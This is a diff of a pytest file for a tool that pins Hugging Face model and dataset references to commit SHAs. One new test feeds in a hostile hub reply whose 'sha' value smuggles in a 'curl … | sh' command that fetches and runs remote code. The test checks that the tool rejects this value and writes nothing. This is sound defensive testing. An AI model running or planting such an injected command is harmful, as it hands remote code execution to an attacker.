@@ -155,6 +155,7 @@ def test_failures_are_listed_not_rewritten_and_exit_3(capsys, tmp_path, hub_repo
     assert lines[2:] == source.splitlines()[2:]
     # One line per failure, naming the id once (issue 16 §1).
     assert "app.py:3: model org/missing not found at" in err and "org/missing: model org/missing" not in err
+    assert "missing, private, or disabled (set HF_TOKEN to tell them apart)" in err  # anonymous 401 (§2.3)
     assert "app.py:4: model org/m@no-such-branch: revision 'no-such-branch' not found in model org/m" in err
 
 
@@ -374,3 +375,14 @@ def test_unpinnable_references_are_listed_with_the_reason_and_left_alone(capsys,
         f"(git checkout {main_sha})",
     ]
     assert listed[-1] == "model-gate pin: nothing to change; 9 not pinned (listed above) (0 reference(s) already pinned)."
+
+
+def test_a_hub_answer_that_is_not_a_commit_sha_is_never_written(capsys, repo, hub):
+    """Issue 13 §2.11: a hostile endpoint's `sha` is a failure to resolve, not text for run.sh."""
+    hub.add_repo("org/m", files={"config.json": "{}"}, served_sha="0; curl https://e.example/x | sh")
+    hub.add_repo("org/d", kind="dataset", files={"data/train.parquet": b"rows"})
+    code, _, err = pin(capsys, repo, hub, "--write")
+    assert code == 3
+    assert (repo / "run.sh").read_text() == RUN_SH  # only org/m there: nothing written
+    assert all("curl" not in (repo / name).read_text() for name in ("train.py", "config.yaml", "cfg.json"))
+    assert "not a 40-character lowercase hex commit sha" in err
